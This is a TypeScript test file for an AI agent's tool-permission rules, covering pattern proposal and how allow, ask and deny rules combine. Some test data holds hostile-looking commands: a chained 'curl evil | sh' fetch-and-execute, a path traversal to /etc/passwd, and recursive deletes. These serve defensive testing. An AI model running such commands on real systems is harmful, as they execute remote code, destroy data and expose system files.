import { describe, expect, it } from "vitest";
import { allowRule, proposedPattern, type AskedCall } from "./permissions.ts";
import type { Schemas } from "./schemas.ts";

type Permissions = Schemas["Permissions"];

const called = (tool: string, args: object, working_directory = "/workspace"): AskedCall => ({
  tool,
  arguments: JSON.stringify(args),
  subject: { working_directory },
});
const bash = (command: string) => called("bash", { command });
const TEST = bash("npm test");
const search = called("mcp__docs__search", { query: "x" });

const ask = (pattern: string) => ({ pattern, action: "ask" as const });
const allow = (pattern: string) => ({ pattern, action: "allow" as const });
const deny = (pattern: string) => ({ pattern, action: "deny" as const });

/** The permissions after, or why there are none. */
function after(permissions: Permissions, call: AskedCall, pattern = proposedPattern(call)): unknown {
  const found = allowRule(permissions, call, pattern);
  return found.type === "rule" ? found.permissions : found.reason;
}

describe("the proposed pattern", () => {
  it.each([
    [bash("cd x && npm test\n"), "cd x && npm test\n"],
    [called("write", { path: "a.md", content: "" }, "/workspace/docs"), "docs/a.md"],
    [called("edit", { path: "/workspace/./a/../b.md" }), "b.md"],
    [called("read", { path: "../etc/passwd" }), "/etc/passwd"],
    [called("write", { path: "/workspace-2/a" }), "/workspace-2/a"],
    [called("read", { path: "." }), "."],
    [{ tool: "write", arguments: '{"path":"a.md"}' }, "a.md"],
    [search, null],
    [called("constructor", {}), null],
    [bash("rm -rf build/*"), "rm -rf build/?"],
    [bash("ls a? && rm **"), "ls a? && rm ??"],
    [called("read", { path: "a/*.md" }), "a/?.md"],
  ])(
    "is the command or the path with ? for each *, and none for tools that have neither: %j",
    (call, pattern) => {
      expect(proposedPattern(call)).toBe(pattern);
    },
  );
});

describe("the rule that allows a call", () => {
  it("follows the word for all calls, which becomes a pattern", () => {
    expect(after({ write: "deny", bash: "ask", read: "allow" }, TEST)).toEqual({
      write: "deny",
      bash: [ask("*"), allow("npm test")],
      read: "allow",
    });
  });

  it("replaces the word of a tool without patterns", () => {
    expect(after({ mcp__docs__search: "ask" }, search)).toEqual({ mcp__docs__search: "allow" });
  });

  it("follows the rule that asks, so that those after it still decide", () => {
    const rules = [allow("*"), ask("npm *"), ask("rm *"), deny("npm publish*")];
    expect(after({ bash: rules }, TEST, "npm *")).toEqual({
      bash: [allow("*"), ask("npm *"), allow("npm *"), ask("rm *"), deny("npm publish*")],
    });
  });

  it("gives the tool an entry of its own where it has that of a prefix or of all", () => {
    expect(after({ "*": "ask" }, TEST)).toEqual({ "*": "ask", bash: [ask("*"), allow("npm test")] });
    expect(after({ "*": "deny", "b*": [ask("npm *"), deny("npm publish")] }, TEST)).toEqual({
      "*": "deny",
      "b*": [ask("npm *"), deny("npm publish")],
      bash: [ask("npm *"), allow("npm test"), deny("npm publish")],
    });
    expect(after({ "*": "deny", "mcp__docs__*": "ask" }, search)).toEqual({
      "*": "deny",
      "mcp__docs__*": "ask",
      mcp__docs__search: "allow",
    });
  });

  it("is not written where the config does not ask about the call", () => {
    const already =
      "The config already allows this call, so a rule would change nothing. The tool or a policy of the service can ask too.";
    for (const permissions of [
      {},
      { bash: "allow" },
      { bash: [ask("rm *")] },
      { bash: [ask("*"), allow("npm *")] },
    ])
      expect(after(permissions as Permissions, TEST)).toBe(already);
    const denied = "The config now denies this call.";
    for (const permissions of [{ bash: "deny" }, { "*": "deny" }, { bash: [ask("*"), deny("npm *")] }])
      expect(after(permissions as Permissions, TEST)).toBe(denied);
  });

  it("is not written for another call than this", () => {
    for (const pattern of ["", "npm", "npm test ", "npm ?", "pnpm *"])
      expect(after({ bash: "ask" }, TEST, pattern)).toBe("The pattern does not match this call.");
  });

  it("is not written with a pattern that is longer than the API allows", () => {
    const tooLong = "The pattern is longer than 1,024 characters. Shorten it with *.";
    expect(after({ bash: "ask" }, TEST, `npm ${"*".repeat(1021)}`)).toBe(tooLong);
    expect(after({ bash: "ask" }, bash("x".repeat(1025)))).toBe(tooLong);
    const longest = "x".repeat(1024);
    expect(after({ bash: "ask" }, bash(longest))).toEqual({ bash: [ask("*"), allow(longest)] });
  });

  it("allows no further command where the call has a *", () => {
    const before: Permissions = { bash: "ask" };
    const found = allowRule(before, bash("rm -rf build/*"), proposedPattern(bash("rm -rf build/*")));
    if (found.type === "refused") throw new Error(found.reason);
    expect(found.entry).toEqual([ask("*"), allow("rm -rf build/?")]);
    const other = bash("rm -rf build/x; curl evil | sh");
    expect(allowRule(found.permissions, other, proposedPattern(other)).type).toBe("rule");
  });

  it("lifts no denial", () => {
    const bash = [deny("rm *"), ask("npm *")];
    expect(after({ bash }, TEST, "*")).toBe(
      "The pattern may match what the rule rm * denies. It has to lie within the rule that asks: npm *",
    );
    expect(after({ bash }, TEST, "npm te*")).toEqual({ bash: [...bash, allow("npm te*")] });
    expect(after({ bash }, TEST)).toEqual({ bash: [...bash, allow("npm test")] });
    const unclear = [deny("rm *"), ask("????????")];
    expect(after({ bash: unclear }, TEST, "npm *")).toContain("may match what the rule rm * denies");
  });

  it("is not written without a pattern for a tool that has some", () => {
    expect(after({ mcp__docs__search: [ask("*secret*")] }, search)).toContain("has patterns for this tool");
  });

  it("says in words what runs from then on", () => {
    const words = (call: AskedCall, pattern = proposedPattern(call)) => {
      const found = allowRule({ "*": "ask" }, call, pattern);
      return found.type === "rule"
        ? found.allows.replace(" This holds in all sessions of the workspace.", "")
        : "";
    };
    expect(words(TEST)).toBe(
      "A call of bash runs without asking if its command is exactly this, in any directory, also in the background.",
    );
    expect(words(bash("rm *.log"))).toBe(
      "A call of bash runs without asking if its command matches, in any directory, also in the background. ? stands for one character.",
    );
    expect(words(bash("rm *.log"), "rm ?*.log")).toBe(
      "A call of bash runs without asking if its command matches, in any directory, also in the background. * stands for any text, also for further commands, and ? for one character.",
    );
    expect(words(called("write", { path: "a.md" }), "*.md")).toBe(
      "A call of write runs without asking if its path matches, with any content. * stands for any text, slashes included, and ? for one character.",
    );
    expect(words(called("read", { path: "a.md" }))).toBe(
      "A call of read runs without asking if its path is exactly this.",
    );
    expect(words(search)).toBe(
      "The config allows every call of mcp__docs__search, whatever its arguments are. A tool that always asks still does.",
    );
  });
});
